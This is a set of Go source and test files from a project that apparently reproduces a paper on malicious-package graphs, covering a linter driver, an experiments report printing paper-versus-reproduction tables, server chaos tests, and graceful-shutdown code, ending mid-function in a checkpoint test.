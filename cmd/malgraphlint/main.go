// Command malgraphlint is MALGRAPH's repo-specific multichecker: it runs
// the internal/analyzers passes — maprange, nondeterm, epochsafe,
// lockguard — over the module and exits non-zero on any finding. The
// determinism passes (maprange, nondeterm) are scoped to the deterministic
// zone (see analyzers.DeterministicZone); the immutability and lock
// passes run module-wide.
//
// Usage:
//
//	malgraphlint [-C dir] [packages ...]
//
// Packages default to ./... relative to the module containing dir (default:
// the working directory). Findings print as file:line:col: analyzer:
// message; exit status is 1 when findings exist, 2 on driver errors.
//
// CI runs this through scripts/lint.sh as a tier-1 gate: the tree must lint
// clean — every finding fixed, or waived in the source with a reasoned
// //malgraph:<kind>-ok directive (an unreasoned or stale waiver is itself a
// finding).
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"malgraph/internal/analyzers"
)

func main() {
	os.Exit(run(os.Stdout, os.Stderr, os.Args[1:]))
}

func run(out, errOut io.Writer, args []string) int {
	fs := flag.NewFlagSet("malgraphlint", flag.ContinueOnError)
	fs.SetOutput(errOut)
	dir := fs.String("C", ".", "directory inside the module to lint")
	if err := fs.Parse(args); err != nil {
		return 2
	}

	findings, err := Lint(*dir, fs.Args()...)
	if err != nil {
		fmt.Fprintf(errOut, "malgraphlint: %v\n", err)
		return 2
	}
	for _, d := range findings {
		fmt.Fprintln(out, d)
	}
	if len(findings) > 0 {
		fmt.Fprintf(out, "malgraphlint: %d finding(s)\n", len(findings))
		return 1
	}
	return 0
}

// Lint loads the module containing dir and runs the analyzer suite over the
// given package patterns (default ./...), returning findings with paths
// relative to the module root.
func Lint(dir string, patterns ...string) ([]analyzers.Diagnostic, error) {
	ld, err := analyzers.NewLoader(dir)
	if err != nil {
		return nil, err
	}
	paths, err := ld.ListPackages(patterns...)
	if err != nil {
		return nil, err
	}

	var findings []analyzers.Diagnostic
	for _, path := range paths {
		pkg, err := ld.Load(path)
		if err != nil {
			return nil, err
		}
		var suite []*analyzers.Analyzer
		for _, a := range analyzers.All() {
			if analyzers.ZoneOnly(a) && !analyzers.InDeterministicZone(ld.ModulePath, path) {
				continue
			}
			suite = append(suite, a)
		}
		for _, d := range analyzers.CheckPackage(pkg, suite) {
			if rel, err := filepath.Rel(ld.ModuleDir, d.Pos.Filename); err == nil && !strings.HasPrefix(rel, "..") {
				d.Pos.Filename = rel
			}
			findings = append(findings, d)
		}
	}
	return findings, nil
}
