package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// writeModule lays out a throwaway module for the driver to lint.
func writeModule(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, src := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

const goMod = "module tempmod\n\ngo 1.21\n"

// TestInjectedWallClockIsCaught is the CI-gate regression test: introducing
// a time.Now call into a deterministic-zone package must fail the lint.
func TestInjectedWallClockIsCaught(t *testing.T) {
	dir := writeModule(t, map[string]string{
		"go.mod": goMod,
		"internal/core/core.go": `package core

import "time"

func Stamp() time.Time { return time.Now() }
`,
	})
	findings, err := Lint(dir)
	if err != nil {
		t.Fatalf("Lint: %v", err)
	}
	if len(findings) != 1 {
		t.Fatalf("got %d findings, want 1: %v", len(findings), findings)
	}
	d := findings[0]
	if d.Analyzer != "nondeterm" || !strings.Contains(d.Message, "time.Now") {
		t.Errorf("unexpected finding: %v", d)
	}
	if d.Pos.Filename != filepath.Join("internal", "core", "core.go") {
		t.Errorf("finding path not module-relative: %q", d.Pos.Filename)
	}
}

// TestZoneScoping: the same wall-clock call outside the deterministic zone
// is not a nondeterm finding, but lockguard still runs there.
func TestZoneScoping(t *testing.T) {
	dir := writeModule(t, map[string]string{
		"go.mod": goMod,
		"internal/server/server.go": `package server

import (
	"sync"
	"time"
)

func Stamp() time.Time { return time.Now() }

type Hub struct {
	mu sync.Mutex
	n  int // guarded by mu
}

func (h *Hub) Bad() int { return h.n }
`,
	})
	findings, err := Lint(dir)
	if err != nil {
		t.Fatalf("Lint: %v", err)
	}
	if len(findings) != 1 {
		t.Fatalf("got %d findings, want 1 (lockguard only): %v", len(findings), findings)
	}
	if findings[0].Analyzer != "lockguard" {
		t.Errorf("want a lockguard finding outside the zone, got %v", findings[0])
	}
}

// TestCleanModuleExitsZero drives run() end to end on a module with nothing
// to report.
func TestCleanModuleExitsZero(t *testing.T) {
	dir := writeModule(t, map[string]string{
		"go.mod": goMod,
		"internal/core/core.go": `package core

func Double(x int) int { return 2 * x }
`,
	})
	var out, errOut bytes.Buffer
	if code := run(&out, &errOut, []string{"-C", dir}); code != 0 {
		t.Fatalf("run = %d, want 0\nstdout: %s\nstderr: %s", code, out.String(), errOut.String())
	}
}

// TestFindingsExitOne drives run() on a failing module and checks the
// one-line-per-finding output contract.
func TestFindingsExitOne(t *testing.T) {
	dir := writeModule(t, map[string]string{
		"go.mod": goMod,
		"internal/core/core.go": `package core

import "os"

func Debug() string { return os.Getenv("DEBUG") }
`,
	})
	var out, errOut bytes.Buffer
	if code := run(&out, &errOut, []string{"-C", dir}); code != 1 {
		t.Fatalf("run = %d, want 1\nstdout: %s\nstderr: %s", code, out.String(), errOut.String())
	}
	if !strings.Contains(out.String(), "nondeterm: use of os.Getenv") {
		t.Errorf("missing finding line in output:\n%s", out.String())
	}
}
