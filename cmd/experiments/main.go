// Command experiments regenerates every table and figure of the paper's
// evaluation and prints them next to the paper's published values in the
// EXPERIMENTS.md format, so drift between the reproduction and the paper is
// visible at a glance.
//
// Usage:
//
//	experiments [-scale 1.0] [-seed N] [-detect] [-iters 50]
package main

import (
	"flag"
	"fmt"
	"os"
	"time"

	"malgraph"
)

func main() {
	scale := flag.Float64("scale", 1.0, "corpus scale (1.0 reproduces paper size)")
	seed := flag.Uint64("seed", 20240404, "world seed")
	detect := flag.Bool("detect", true, "run the Table X detection experiment")
	iters := flag.Int("iters", 50, "detection iterations")
	flag.Parse()

	if err := run(*scale, *seed, *detect, *iters); err != nil {
		fmt.Fprintln(os.Stderr, "experiments:", err)
		os.Exit(1)
	}
}

func run(scale float64, seed uint64, detect bool, iters int) error {
	start := time.Now()
	fmt.Printf("# Experiment run — scale %.2f, seed %d, %s\n\n", scale, seed, time.Now().UTC().Format(time.RFC3339))
	r, err := malgraph.Run(malgraph.Config{
		Seed: seed, Scale: scale,
		Detection: detect, DetectionIterations: iters,
	})
	if err != nil {
		return err
	}

	fmt.Printf("## Corpus (Table I)\n")
	fmt.Printf("paper: 24,356 packages, 13,932 available / 10,424 unavailable (42.8%%)\n")
	fmt.Printf("ours : %d packages, %d available / %d missing (%.2f%%)\n\n",
		r.TotalPackages, r.Available, r.Missing, r.TotalMR*100)

	fmt.Printf("## Missing rates (Table V) — paper local MRs: B.K/M./M.D/D.D 0%%, G.A 92.7%%, S.i 75.3%%, T. 56.1%%, P. 90.5%%, So. 100%%, Blogs 95.2%%; total 39.27%%\n")
	for _, m := range r.MissingRates {
		fmt.Printf("  %-18s local %6.2f%%  global %6.2f%%  (%d/%d)\n",
			m.Source, m.LocalMR*100, m.GlobalMR*100, m.Missing, m.Total)
	}
	fmt.Println()

	fmt.Printf("## Similar subgraphs (Table VI) — paper: NPM 157 groups/2,994 pkgs/avg 19.07/max 827; PyPI 295/4,365/14.80/829; Ruby 37/83/2.24/6\n")
	for _, s := range r.SimilarSubgraphs {
		fmt.Printf("  %-8s groups %4d  pkgs %5d  avg %6.2f  max %4d\n",
			s.Ecosystem, s.SubgraphNum, s.PkgNum, s.AvgSize, s.LargestSize)
	}
	fmt.Println()

	fmt.Printf("## Operations (Fig 9) — paper: CN 88.65%% CV 11.35%% CD 7.97%% CDep 1.76%% CC 59.34%%, ~0.88 lines/CC\n")
	fmt.Printf("  ours: CN %.2f%% CV %.2f%% CD %.2f%% CDep %.2f%% CC %.2f%%, %.2f lines/CC (%d transitions)\n\n",
		r.SimilarOps.CN*100, r.SimilarOps.CV*100, r.SimilarOps.CD*100,
		r.SimilarOps.CDep*100, r.SimilarOps.CC*100, r.SimilarOps.AvgChangedLines, r.SimilarOps.Transitions)

	fmt.Printf("## Active periods — paper: similar mean 45.16d (80%%<15d, 53 groups>60d); dependency mean 10.5d (80%%<10d)\n")
	fmt.Printf("  similar    : mean %6.2fd  P(<=15d) %5.1f%%  >60d %d  (%d groups)\n",
		r.SimilarActive.MeanDays, r.SimilarActive.Under15DaysFrac*100, r.SimilarActive.Over60Days, r.SimilarActive.Groups)
	fmt.Printf("  dependency : mean %6.2fd  P(<=10d) %5.1f%%  (%d groups)\n",
		r.DependencyActive.MeanDays, r.DependencyActive.Under10DaysFrac*100, r.DependencyActive.Groups)
	fmt.Printf("  co-existing: mean %6.2fd  (%d groups)\n\n", r.CoexistActive.MeanDays, r.CoexistActive.Groups)

	fmt.Printf("## Dependency subgraphs (Tables VII+VIII) — paper: NPM 323/22 max 232; PyPI 992/13 max 950; Ruby 39/3 max 34; 28 cores hide 1,354 fronts\n")
	for _, s := range r.DependencySubgraphs {
		fmt.Printf("  %-8s groups %3d  pkgs %4d  avg %6.2f  max %4d\n",
			s.Ecosystem, s.SubgraphNum, s.PkgNum, s.AvgSize, s.LargestSize)
	}
	fmt.Printf("  cores %d, fronts %d; top targets:", r.DepCores, r.DepFronts)
	for i, d := range r.DependencyTargets {
		if i >= 6 {
			break
		}
		fmt.Printf(" %s/%s(%d)", d.Ecosystem, d.Name, d.Count)
	}
	fmt.Print("\n\n")

	fmt.Printf("## Co-existing subgraphs (Table IX) — paper: NPM 3,110/33 avg 94.24; PyPI 7,249/40 avg 181.23; Ruby 76/9 avg 8.44\n")
	for _, s := range r.CoexistSubgraphs {
		fmt.Printf("  %-8s groups %3d  pkgs %5d  avg %7.2f  max %4d\n",
			s.Ecosystem, s.SubgraphNum, s.PkgNum, s.AvgSize, s.LargestSize)
	}
	fmt.Println()

	fmt.Printf("## IoCs (Fig 14) — paper: 1,449 URLs / 234 IPs / 4 PowerShell; top bananasquad.ru 453, kekwltd.ru 302; same IP ≤23 reports\n")
	fmt.Printf("  ours: %d URLs / %d IPs / %d PowerShell; max same-IP reports %d\n",
		r.IoCs.UniqueURLs, r.IoCs.UniqueIPs, r.IoCs.PowerShell, r.IoCs.MaxSameIPReports)
	for i, d := range r.TopDomains {
		if i >= 10 {
			break
		}
		fmt.Printf("  %2d. %-28s %d\n", i+1, d.Domain, d.Count)
	}
	fmt.Println()

	if len(r.Detection) > 0 {
		fmt.Printf("## Detection (Table X) — paper: RF .897→.944 acc / .825→.984 rec; LR .841→.859/.806→.836; KNN .773→.807/.778→.818; MLP .860→.895/.839→.927\n")
		for _, d := range r.Detection {
			fmt.Printf("  %-4s acc %.3f→%.3f   recall %.3f→%.3f\n",
				d.Algorithm, d.AccWithout, d.AccWith, d.RecallWithout, d.RecallWith)
		}
		fmt.Println()
	}

	fmt.Printf("## Behaviors (Table XI) — largest groups\n")
	for i, b := range r.Behaviors {
		if i >= 14 {
			break
		}
		fmt.Printf("  %-8s %5d pkgs  [%s]  %v\n", b.Ecosystem, b.Size, b.Source, b.Behaviors)
	}
	fmt.Println()

	fmt.Printf("## Validation (§IV-A) — paper: 5×100 samples, 100%% verified malicious\n")
	fmt.Printf("  ours: %d×%d samples, scanner %.1f%%, verified %.1f%%\n\n",
		r.Validation.Experiments, r.Validation.SampleSize,
		r.Validation.ScannerRate*100, r.Validation.VerifiedRate*100)

	fmt.Printf("total wall time: %v\n", time.Since(start).Round(time.Millisecond))
	return nil
}
