package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestRunRequiresCommand(t *testing.T) {
	if err := run(nil); err == nil || !strings.Contains(err.Error(), "usage") {
		t.Fatalf("no-args error = %v", err)
	}
	if err := run([]string{"bogus"}); err == nil || !strings.Contains(err.Error(), "unknown command") {
		t.Fatalf("bogus command error = %v", err)
	}
}

func TestGraphExport(t *testing.T) {
	out := filepath.Join(t.TempDir(), "graph.json")
	if err := run([]string{"graph", "-scale", "0.02", "-out", out}); err != nil {
		t.Fatalf("graph export: %v", err)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "\"nodes\"") || !strings.Contains(string(data), "\"edges\"") {
		t.Fatalf("graph JSON malformed: %.100s", data)
	}
}

func TestCrawlCommand(t *testing.T) {
	if err := run([]string{"crawl", "-scale", "0.02"}); err != nil {
		t.Fatalf("crawl: %v", err)
	}
}

func TestBadFlag(t *testing.T) {
	if err := run([]string{"run", "-nonsense"}); err == nil {
		t.Fatal("bad flag must error")
	}
}

func TestDatasetExport(t *testing.T) {
	out := filepath.Join(t.TempDir(), "data.json")
	if err := run([]string{"dataset", "-scale", "0.02", "-out", out}); err != nil {
		t.Fatalf("dataset export: %v", err)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), "\"mode\":\"public\"") {
		t.Fatalf("expected public mode export: %.80s", data)
	}
	if strings.Contains(string(data), "\"artifact\"") {
		t.Fatal("public export leaked artifacts")
	}
}
