package main

// Chaos suite (ISSUE 9): storm the admission gate past its limit, panic a
// mutator mid-flight, stall a request body, SIGTERM the server mid-ingest —
// and prove the overload/lifecycle armor answers each one without losing an
// acknowledged byte: 429s carry Retry-After, a poisoned pipeline fails
// readiness while reads keep serving, and a drain-and-checkpoint shutdown
// restarts into exactly the state an uninterrupted run would have reached.

import (
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/signal"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"malgraph"
	"malgraph/internal/admission"
	"malgraph/internal/faultinject"
)

// postRaw POSTs body and returns (status, decoded JSON, Retry-After header).
func postRaw(t *testing.T, url, body string, r io.Reader) (int, map[string]any, string) {
	t.Helper()
	if r == nil {
		r = strings.NewReader(body)
	}
	resp, err := http.Post(url, "application/json", r)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var out map[string]any
	_ = json.NewDecoder(resp.Body).Decode(&out)
	return resp.StatusCode, out, resp.Header.Get("Retry-After")
}

// hookOnce registers a faultinject hook for the test and unregisters it at
// cleanup.
func hookOnce(t *testing.T, name string, fn func()) {
	t.Helper()
	faultinject.SetHook(name, fn)
	t.Cleanup(func() { faultinject.SetHook(name, nil) })
}

func TestAdmissionShedsWritesServesReads(t *testing.T) {
	s, ts := newTestServer(t, 3, "")
	// One slot, no queueing: the second concurrent write sheds immediately.
	s.adm = admission.New(admission.Config{MaxInflight: 1, MaxWait: 0})

	// One clean ingest first, so reads-under-saturation have a published
	// epoch with content to serve.
	postJSON(t, ts.URL+"/api/v1/ingest", http.StatusOK)

	entered := make(chan struct{})
	release := make(chan struct{})
	var once, releaseOnce sync.Once
	releaseAll := func() { releaseOnce.Do(func() { close(release) }) }
	// Unpark the holder even if an assertion below fails first — a parked
	// handler would deadlock the httptest server's cleanup Close.
	t.Cleanup(releaseAll)
	hookOnce(t, "serve.ingest.preApply", func() {
		once.Do(func() { close(entered) })
		<-release
	})

	// The slot-holder: blocks inside the mutator with the admission slot held.
	holderDone := make(chan map[string]any, 1)
	go func() {
		_, out, _ := postRaw(t, ts.URL+"/api/v1/ingest", "", nil)
		holderDone <- out
	}()
	<-entered

	// Storm past the limit: every further write sheds with 429 + Retry-After.
	for i := 0; i < 3; i++ {
		status, _, retryAfter := postRaw(t, ts.URL+"/api/v1/observations",
			`{"observations":[]}`, nil)
		if status != http.StatusTooManyRequests {
			t.Fatalf("shed write %d: status %d, want 429", i, status)
		}
		if retryAfter == "" {
			t.Fatalf("shed write %d: no Retry-After header", i)
		}
	}

	// Reads bypass the gate entirely: served from the published epoch while
	// the write path is saturated.
	if st := getJSON(t, ts.URL+"/api/v1/stats", http.StatusOK); st["nodes"] == nil {
		t.Fatalf("stats during saturation: %v", st)
	}
	getJSON(t, ts.URL+"/api/v1/results", http.StatusOK)
	getJSON(t, ts.URL+"/healthz", http.StatusOK)
	ready := getJSON(t, ts.URL+"/readyz", http.StatusOK)
	if ready["status"] != "ready" || ready["admission"] == nil {
		t.Fatalf("readyz during saturation: %v", ready)
	}

	// Release the holder: its ingest completes and the gate reopens.
	releaseAll()
	if out := <-holderDone; out["pending"].(float64) != 1 {
		t.Fatalf("holder ingest: %v", out)
	}
	status, _, _ := postRaw(t, ts.URL+"/api/v1/observations", `{"observations":[]}`, nil)
	if status == http.StatusTooManyRequests {
		t.Fatal("gate still saturated after release")
	}
}

func TestServePanicPoisonsReadiness(t *testing.T) {
	s, ts := newTestServer(t, 3, "")

	ready := getJSON(t, ts.URL+"/readyz", http.StatusOK)
	if ready["status"] != "ready" {
		t.Fatalf("pre-poison readyz: %v", ready)
	}
	// Publish an epoch with content: post-poison reads must keep serving it.
	postJSON(t, ts.URL+"/api/v1/ingest", http.StatusOK)

	hookOnce(t, "serve.observations.preApply", func() { panic("chaos: injected mutator panic") })
	status, body, _ := postRaw(t, ts.URL+"/api/v1/observations", `{"observations":[]}`, nil)
	if status != http.StatusInternalServerError {
		t.Fatalf("panicking mutator: status %d, want 500 (body %v)", status, body)
	}

	// The pipeline is poisoned: readiness fails so an orchestrator restarts
	// the process, and further writes are refused...
	ready = getJSON(t, ts.URL+"/readyz", http.StatusServiceUnavailable)
	if ready["status"] != "poisoned" || !strings.Contains(ready["reason"].(string), "injected mutator panic") {
		t.Fatalf("post-poison readyz: %v", ready)
	}
	faultinject.SetHook("serve.observations.preApply", nil)
	if status, _, _ := postRaw(t, ts.URL+"/api/v1/ingest", "", nil); status != http.StatusServiceUnavailable {
		t.Fatalf("write on poisoned pipeline: status %d, want 503", status)
	}
	// ...but liveness holds and reads keep serving the last published epoch.
	getJSON(t, ts.URL+"/healthz", http.StatusOK)
	getJSON(t, ts.URL+"/api/v1/stats", http.StatusOK)
	getJSON(t, ts.URL+"/api/v1/results", http.StatusOK)
	if s.poisonedReason() == "" {
		t.Fatal("poisoned reason lost")
	}

	// A read-path panic is contained per request and does NOT poison.
	s2, ts2 := newTestServer(t, 3, "")
	hookOnce(t, "serve.results.read", func() {})
	resp, err := http.Get(ts2.URL + "/api/v1/stats")
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("read after no-op hook: %v %v", err, resp)
	}
	resp.Body.Close()
	if s2.poisonedReason() != "" {
		t.Fatal("read path poisoned the pipeline")
	}
}

func TestServeDrainingRefusesWrites(t *testing.T) {
	s, ts := newTestServer(t, 3, "")
	s.draining.Store(true)
	if status, _, _ := postRaw(t, ts.URL+"/api/v1/ingest", "", nil); status != http.StatusServiceUnavailable {
		t.Fatalf("write while draining: status %d, want 503", status)
	}
	getJSON(t, ts.URL+"/readyz", http.StatusServiceUnavailable)
	getJSON(t, ts.URL+"/api/v1/stats", http.StatusOK)
}

func TestServeBodyLimitAnswers413(t *testing.T) {
	s, ts := newTestServer(t, 3, "")
	s.maxBodyBytes = 64
	big := `{"observations":[` + strings.Repeat(`{"source":"x"},`, 64) + `{"source":"x"}]}`
	if status, _, _ := postRaw(t, ts.URL+"/api/v1/observations", big, nil); status != http.StatusRequestEntityTooLarge {
		t.Fatalf("oversized body: status %d, want 413", status)
	}
	// Under the cap still works.
	if status, _, _ := postRaw(t, ts.URL+"/api/v1/observations", `{"observations":[]}`, nil); status == http.StatusRequestEntityTooLarge {
		t.Fatal("small body rejected by the cap")
	}
}

func TestServeStalledBodyBoundedByReadTimeout(t *testing.T) {
	// The read deadline must be configured before the listener starts, as
	// cmdServe does with -io-timeout.
	p, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, 3)
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewUnstartedServer(newServer(p, "").handler())
	ts.Config.ReadTimeout = 150 * time.Millisecond
	ts.Start()
	t.Cleanup(ts.Close)
	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}}

	// A slow-loris body: valid JSON delivered one byte per 50ms — minutes of
	// wall clock unless the server's read deadline cuts it off.
	body := `{"observations":[]}` + strings.Repeat(" ", 256)
	slow := faultinject.SlowReader(strings.NewReader(body), 1, 50*time.Millisecond)
	start := time.Now()
	resp, err := client.Post(ts.URL+"/api/v1/observations", "application/json", slow)
	elapsed := time.Since(start)
	if err == nil {
		// Some paths surface as a 4xx decode failure instead of a cut
		// connection; either way the handler must not have waited the body out.
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			t.Fatal("stalled body was waited out to success")
		}
	}
	if elapsed > 5*time.Second {
		t.Fatalf("stalled request held the server %v; read deadline did not bite", elapsed)
	}
	// The server survived the stall.
	getJSON(t, ts.URL+"/healthz", http.StatusOK)
}

func TestServeSIGTERMMidIngestLosesNothing(t *testing.T) {
	if testing.Short() {
		t.Skip("full pipeline build")
	}
	dir := t.TempDir()
	snapshotPath := filepath.Join(dir, "state.json")
	walDir := filepath.Join(dir, "wal")

	// Generation 1: journaled server on a real listener behind the full
	// lifecycle, exactly as cmdServe wires it.
	p1, j1 := recoverPipeline(t, 4, snapshotPath, walDir)
	s1 := newServer(p1, snapshotPath)
	s1.wal = j1
	s1.checkpointBytes = 1 << 30 // only the shutdown checkpoint may run
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	lc := &lifecycle{
		srv:          s1,
		main:         &http.Server{Handler: s1.handler()},
		drainTimeout: 10 * time.Second,
		out:          io.Discard,
	}
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM)
	defer stop()
	runErr := make(chan error, 1)
	go func() { runErr <- lc.Run(ctx, ln) }()
	base := "http://" + ln.Addr().String()

	// An ingest parks mid-flight, holding the mutator when SIGTERM lands.
	entered := make(chan struct{})
	release := make(chan struct{})
	var once, releaseOnce sync.Once
	releaseAll := func() { releaseOnce.Do(func() { close(release) }) }
	t.Cleanup(releaseAll) // never leave the drain waiting on a parked handler
	hookOnce(t, "serve.ingest.preApply", func() {
		once.Do(func() { close(entered) })
		<-release
	})
	type ack struct {
		status int
		body   map[string]any
	}
	acked := make(chan ack, 1)
	go func() {
		status, out, _ := postRaw(t, base+"/api/v1/ingest", "", nil)
		acked <- ack{status, out}
	}()
	<-entered

	// SIGTERM mid-ingest: a real signal through the real handler.
	if err := syscall.Kill(os.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	// The drain must wait for the parked ingest, not cut it off.
	deadline := time.Now().Add(5 * time.Second)
	for !s1.draining.Load() {
		if time.Now().After(deadline) {
			t.Fatal("draining never started after SIGTERM")
		}
		time.Sleep(5 * time.Millisecond)
	}
	select {
	case <-runErr:
		t.Fatal("shutdown completed while an ingest was still in flight")
	case a := <-acked:
		t.Fatalf("in-flight ingest terminated by drain: %+v", a)
	default:
	}
	releaseAll()

	a := <-acked
	if a.status != http.StatusOK || a.body["seq"].(float64) != 1 {
		t.Fatalf("drained ingest not acknowledged: %+v", a)
	}
	if err := <-runErr; err != nil {
		t.Fatalf("lifecycle.Run: %v", err)
	}
	// The shutdown checkpoint folded the journal into the snapshot.
	if _, err := os.Stat(snapshotPath); err != nil {
		t.Fatalf("no final checkpoint: %v", err)
	}
	wantStats := p1.Stats()

	// Generation 2: restart recovers exactly the drained state.
	p2, j2 := recoverPipeline(t, 4, snapshotPath, walDir)
	defer j2.Close()
	if p2.LastSeq() != 1 {
		t.Fatalf("recovered seq %d, want 1 (the acknowledged ingest)", p2.LastSeq())
	}
	if got := p2.Stats(); !reflect.DeepEqual(got, wantStats) {
		t.Fatalf("recovered stats %+v\nwant drained %+v", got, wantStats)
	}

	// And the drained state equals an uninterrupted run's: same world, one
	// batch ingested with no signal in the middle.
	pRef, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, 4)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, ok, err := pRef.AppendPending(1, false); err != nil || !ok {
		t.Fatalf("reference ingest: %v %v", err, ok)
	}
	if got := p2.Stats(); !reflect.DeepEqual(got, pRef.Stats()) {
		t.Fatalf("recovered stats %+v\nwant uninterrupted %+v", got, pRef.Stats())
	}
}
