package main

// Graceful lifecycle for serve: the process must be able to die mid-ingest
// without losing an acknowledged byte. SIGTERM/SIGINT cancel the run
// context; the lifecycle then stops accepting connections, drains in-flight
// requests (bounded by -drain-timeout), takes a final crash-safe
// checkpoint so the journal suffix folds into the snapshot, and closes the
// WAL. The pprof side listener shares the same shutdown path — it can no
// longer outlive the API server.

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/pprof"
	"os"
	"time"
)

// lifecycle owns serve's listeners and its drain-and-checkpoint shutdown.
type lifecycle struct {
	srv  *server
	main *http.Server
	// pprofSrv is the optional -pprof side listener; it gets its own mux
	// (never http.DefaultServeMux, which any imported package can extend)
	// and is shut down together with the main server.
	pprofSrv     *http.Server
	drainTimeout time.Duration
	out          io.Writer
}

// newPprofServer builds the -pprof side listener on a dedicated mux with
// exactly the net/http/pprof handlers — profiling stays off the public API
// surface and no side-effect DefaultServeMux registrations leak in.
func newPprofServer(addr string) *http.Server {
	mux := http.NewServeMux()
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return &http.Server{Addr: addr, Handler: mux, ReadHeaderTimeout: 5 * time.Second}
}

// Run serves ln until ctx is cancelled (SIGTERM/SIGINT in production), then
// executes the graceful sequence: mark draining (readiness fails, late
// writes shed), stop accepting, drain in-flight requests within
// drainTimeout, final checkpoint, close the journal. A listener error on
// the main server is fatal; a pprof listener error is logged and serving
// continues — profiling must never take the API down.
func (lc *lifecycle) Run(ctx context.Context, ln net.Listener) error {
	serveErr := make(chan error, 1)
	go func() { serveErr <- lc.main.Serve(ln) }()
	var pprofErr chan error // nil channel: select case blocks forever
	if lc.pprofSrv != nil {
		pprofErr = make(chan error, 1)
		go func() { pprofErr <- lc.pprofSrv.ListenAndServe() }()
	}
	for {
		select {
		case err := <-serveErr:
			if err == http.ErrServerClosed {
				return nil
			}
			return err
		case err := <-pprofErr:
			if err != nil && err != http.ErrServerClosed {
				fmt.Fprintf(os.Stderr, "pprof listener %s: %v\n", lc.pprofSrv.Addr, err)
			}
			pprofErr = nil
		case <-ctx.Done():
			return lc.shutdown()
		}
	}
}

// shutdown drains and persists. Order matters: draining first so kept-alive
// connections stop being fed new writes, then the HTTP drain (in-flight
// ingests finish and are journaled), then the final checkpoint (folds the
// journal into the snapshot — a clean shutdown restarts without replay),
// then the WAL close. A poisoned engine skips the checkpoint: its in-memory
// state is suspect, and recovery-by-restart from the last good snapshot +
// journal is the sound path.
func (lc *lifecycle) shutdown() error {
	fmt.Fprintf(lc.out, "shutdown: draining in-flight requests (up to %v)\n", lc.drainTimeout)
	lc.srv.draining.Store(true)
	drainCtx, cancel := context.WithTimeout(context.Background(), lc.drainTimeout)
	defer cancel()
	var firstErr error
	if err := lc.main.Shutdown(drainCtx); err != nil {
		firstErr = fmt.Errorf("drain: %w", err)
		lc.main.Close() // cut stragglers; their work is journaled or unacked
	}
	if lc.pprofSrv != nil {
		_ = lc.pprofSrv.Shutdown(drainCtx)
	}
	if lc.srv.snapshotPath != "" && lc.srv.poisonedReason() == "" {
		lc.srv.checkpointMu.Lock()
		seq, err := lc.srv.checkpoint()
		lc.srv.checkpointMu.Unlock()
		if err != nil {
			// Non-fatal: every acknowledged ingest is already durable in the
			// journal; the next start replays it.
			fmt.Fprintf(os.Stderr, "shutdown checkpoint failed (journal still authoritative): %v\n", err)
		} else {
			fmt.Fprintf(lc.out, "shutdown: final checkpoint at %s (seq %d)\n", lc.srv.snapshotPath, seq)
		}
	}
	// Wait out any background store compaction the final checkpoint may
	// have scheduled. Killing it would still be safe — compaction is
	// crash-tolerant and retried after a later checkpoint — but a clean
	// shutdown should leave no worker mid-sweep.
	lc.srv.compactWG.Wait()
	if lc.srv.wal != nil {
		if err := lc.srv.wal.Close(); err != nil && firstErr == nil {
			firstErr = fmt.Errorf("close journal: %w", err)
		}
	}
	if firstErr == nil {
		fmt.Fprintln(lc.out, "shutdown: complete")
	}
	if errors.Is(firstErr, context.DeadlineExceeded) {
		return fmt.Errorf("shutdown: drain timed out after %v", lc.drainTimeout)
	}
	return firstErr
}
