package main

// Serve-level segmented checkpoints (ISSUE 10): the -store recovery
// sequence — restore manifest against the content store, replay the journal
// suffix, attach — must carry state across restarts exactly like the
// monolithic path; the snapshot bundle GET must round-trip into a fresh
// store; retention must keep the configured number of manifests; and a kill
// mid-segment-write or mid-compaction must never lose a checkpoint.

import (
	"bytes"
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"malgraph"
	"malgraph/internal/castore"
	"malgraph/internal/faultinject"
	"malgraph/internal/wal"
)

// recoverStorePipeline performs cmdServe's segmented startup sequence:
// open the store, restore the manifest through it if published (or attach
// cold), replay the journal suffix, attach. Caller closes the journal.
func recoverStorePipeline(t *testing.T, batches int, snapshotPath, walDir string, store *castore.Store) (*malgraph.Pipeline, *wal.Log) {
	t.Helper()
	p, err := malgraph.NewStreamingPipeline(context.Background(), malgraph.Config{Scale: 0.02}, batches)
	if err != nil {
		t.Fatal(err)
	}
	if f, err := os.Open(snapshotPath); err == nil {
		restoreErr := p.RestoreEngineWithStore(f, store)
		f.Close()
		if restoreErr != nil {
